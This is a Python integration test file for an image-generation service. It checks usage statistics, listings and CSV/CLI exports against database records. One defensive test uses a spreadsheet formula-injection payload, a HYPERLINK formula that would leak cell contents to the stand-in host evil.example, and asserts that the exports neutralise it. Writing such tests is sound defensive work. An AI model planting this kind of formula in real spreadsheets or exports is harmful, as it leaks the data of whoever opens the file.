"""UsageService and the CLI exports agree with the usage records, failures included."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import asyncpg
import grpc
import pytest
from imagegen.v1 import common_pb2, generation_pb2, usage_pb2, usage_pb2_grpc

from tests.fakes.forge_server import ForgeFake, Reply
from tests.inprocess import TEST_JWT_KEY, serve_in_process
from tests.integration.test_pipeline import CHANNEL_OPTIONS, generate, metadata, reason_of

U = usage_pb2
E = generation_pb2


def without_urls(text: str) -> list[dict[str, str]]:
    return [
        {k: v for k, v in row.items() if k != "image_urls"}
        for row in csv.DictReader(io.StringIO(text))
    ]


async def test_stats_lists_and_exports_agree_with_the_records(
    tmp_path: Path, database_url: str
) -> None:
    pricing = tmp_path / "prices.json"
    pricing.write_text(
        '{"tiers": [{"max_pixels": 262144, "credits": 1}, {"max_pixels": 1048576, "credits": 2}],'
        ' "edit_credits": 2, "provider_cents_per_image": {"local": 3}}'
    )
    env = {"IMAGEGEN_PRICING_FILE": str(pricing)}
    async with (
        ForgeFake.start() as fake,
        serve_in_process(
            tmp_path,
            database_url,
            env={
                **env,
                "BUILT_IN_FORGE_API_URL": fake.url,
                "BUILT_IN_FORGE_API_KEY": "k",
                "IMAGEGEN_DEFAULT_PROVIDER": "local",
            },
        ) as server,
    ):
        fake.default = Reply(status=400)  # the forge job fails, not retried
        port = server.grpc_port
        small = common_pb2.ImageSize(width=256, height=256)
        for source in (common_pb2.GENERATION_SOURCE_WORKFLOW, common_pb2.GENERATION_SOURCE_AGENT):
            events, _ = await generate(
                port, common_pb2.GenerationSpec(prompt='a fox, "quoted"', size=small, source=source)
            )
            assert events[-1].type == E.GENERATION_EVENT_TYPE_COMPLETED
        failed, _ = await generate(port, common_pb2.GenerationSpec(prompt="x", provider="forge"))
        assert failed[-1].error.code == "IMG_002"

        async with grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=CHANNEL_OPTIONS) as ch:
            stub = usage_pb2_grpc.UsageServiceStub(ch)
            md = metadata()
            listed = await stub.ListUsage(U.ListUsageRequest(), metadata=md)
            assert len(listed.usage_records) == 3
            failures = await stub.ListUsage(
                U.ListUsageRequest(statuses=[U.USAGE_STATUS_FAILED]), metadata=md
            )
            assert [(r.provider, r.error_code) for r in failures.usage_records] == [
                ("forge", "IMG_002")
            ]
            page = await stub.ListUsage(U.ListUsageRequest(page_size=2), metadata=md)
            rest = await stub.ListUsage(
                U.ListUsageRequest(page_size=2, page_token=page.next_page_token), metadata=md
            )
            assert len(page.usage_records) + len(rest.usage_records) == 3

            stats = await stub.GetUsageStats(U.GetUsageStatsRequest(), metadata=md)
            assert (stats.totals.requests, stats.totals.succeeded, stats.totals.failed) == (3, 2, 1)
            assert stats.totals.credits == 2 and stats.totals.image_count == 2
            assert stats.totals.cost_cents == 6, "3 cents per local image, as configured"
            assert stats.totals.success_rate == pytest.approx(2 / 3)
            assert stats.totals.average_generation_duration.ToNanoseconds() != 0, "it is measured"
            assert {p.provider: p.totals.requests for p in stats.by_provider} == {
                "forge": 1,
                "local": 2,
            }
            assert {s.source: s.totals.requests for s in stats.by_source} == {
                common_pb2.GENERATION_SOURCE_WORKFLOW: 1,
                common_pb2.GENERATION_SOURCE_AGENT: 1,
                common_pb2.GENERATION_SOURCE_API: 1,
            }
            assert sum(d.totals.requests for d in stats.by_day) == 3
            with pytest.raises(grpc.aio.AioRpcError) as bad_zone:
                await stub.GetUsageStats(U.GetUsageStatsRequest(time_zone="Mars/Base"), metadata=md)
            assert reason_of(bad_zone.value) == "IMG_003"

            usage_csv = b"".join(
                [m.data async for m in stub.ExportUsage(U.ExportUsageRequest(), metadata=md)]
            ).decode()
            history_csv = b"".join(
                [
                    m.data
                    async for m in stub.ExportGenerations(U.ExportGenerationsRequest(), metadata=md)
                ]
            ).decode()
            others = await stub.ListUsage(U.ListUsageRequest(), metadata=metadata("bob"))
            assert list(others.usage_records) == []

        usage_rows = list(csv.DictReader(io.StringIO(usage_csv)))
        conn = await asyncpg.connect(database_url)
        try:
            records = await conn.fetch("SELECT status, credits, provider FROM usage_records")
        finally:
            await conn.close()
        assert sorted(
            (r["status"], int(r["credits"]), r["provider"]) for r in usage_rows
        ) == sorted((r["status"], r["credits"], r["provider"]) for r in records)
        history = list(csv.DictReader(io.StringIO(history_csv)))
        assert [h["state"] for h in history] == ["completed", "completed", "failed"]
        assert history[0]["prompt"] == 'a fox, "quoted"'
        assert history[0]["images"].startswith("images/")
        assert history[0]["image_urls"].startswith("http://127.0.0.1:")
        assert {r["provider"]: r["cost_cents"] for r in usage_rows} == {"local": "3", "forge": ""}
        assert history[2]["error_code"] == "IMG_002"
        assert [h["source"] for h in history] == ["workflow", "agent", "api"]

        # The CLI writes the same exports.
        env = {
            **os.environ,
            "IMAGEGEN_ADDR": f"127.0.0.1:{port}",
            "IMAGEGEN_JWT_KEY": TEST_JWT_KEY,
            "IMAGEGEN_DATA_DIR": str(tmp_path / "cli"),
        }
        for what, expected in (("usage", usage_csv), ("generations", history_csv)):
            out = tmp_path / f"{what}.csv"
            done = await asyncio.to_thread(
                subprocess.run,
                [
                    sys.executable,
                    "-m",
                    "imagegen.cli",
                    what,
                    "export",
                    "--user",
                    "alice",
                    "--out",
                    str(out),
                ],
                env=env,
                capture_output=True,
                text=True,
                timeout=60,
            )
            assert done.returncode == 0, done.stderr
            assert f"{what} of user 'alice'" in done.stderr, "the CLI says whose rows these are"
            written = out.read_bytes().decode()
            assert written.startswith(expected.split("\r\n", 1)[0] + "\r\n"), "same header"
            # Signed image URLs are minted fresh for each export; everything else matches.
            assert without_urls(written) == without_urls(expected)

        # With IMAGEGEN_TOKEN the rows are its user's, and the CLI names that user.
        bobs = await asyncio.to_thread(
            subprocess.run,
            [sys.executable, "-m", "imagegen.cli", "usage", "export"],
            env={**env, "IMAGEGEN_TOKEN": metadata("bob")[0][1].removeprefix("Bearer ")},
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert bobs.returncode == 0, bobs.stderr
        assert bobs.stdout.strip() == usage_csv.split("\r\n", 1)[0], "bob has no rows"
        assert "usage of user 'bob'" in bobs.stderr


FORMULA_PROMPT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a bigger image")'


async def test_exports_neutralise_cells_a_spreadsheet_would_run(
    tmp_path: Path, database_url: str
) -> None:
    async with serve_in_process(tmp_path, database_url) as server:
        port = server.grpc_port
        for prompt, negative in ((FORMULA_PROMPT, "@SUM(A1:A9)"), ("+1+1", "-2+3")):
            events, _ = await generate(
                port,
                common_pb2.GenerationSpec(
                    prompt=prompt,
                    negative_prompt=negative,
                    size=common_pb2.ImageSize(width=256, height=256),
                ),
            )
            assert events[-1].type == E.GENERATION_EVENT_TYPE_COMPLETED
        async with grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=CHANNEL_OPTIONS) as ch:
            stub = usage_pb2_grpc.UsageServiceStub(ch)
            history_csv = b"".join(
                [
                    m.data
                    async for m in stub.ExportGenerations(
                        U.ExportGenerationsRequest(), metadata=metadata()
                    )
                ]
            ).decode()
    history = list(csv.DictReader(io.StringIO(history_csv)))
    assert [(h["prompt"], h["negative_prompt"]) for h in history] == [
        ("'" + FORMULA_PROMPT, "'@SUM(A1:A9)"),
        ("'+1+1", "'-2+3"),
    ]
    # No cell of the file starts a formula.
    for row in csv.reader(io.StringIO(history_csv)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
